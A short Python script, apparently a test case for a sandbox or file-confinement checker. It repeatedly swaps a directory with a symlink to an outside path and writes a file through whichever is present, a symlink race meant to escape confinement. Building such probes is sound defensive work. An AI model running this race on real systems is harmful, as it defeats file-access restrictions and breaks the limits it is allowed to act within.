# Keeps swapping a folder with a link, and writes through whichever is there.
# evidence: write
# bare: works

import contextlib
import os

os.mkdir("real")
os.symlink(os.environ["ATTACK_OUTSIDE"], "link")
for _ in range(2000):
    os.rename("real", "aside")
    os.rename("link", "real")
    with contextlib.suppress(OSError):
        os.close(os.open("real/was-here", os.O_CREAT | os.O_WRONLY))
    os.rename("real", "link")
    os.rename("aside", "real")
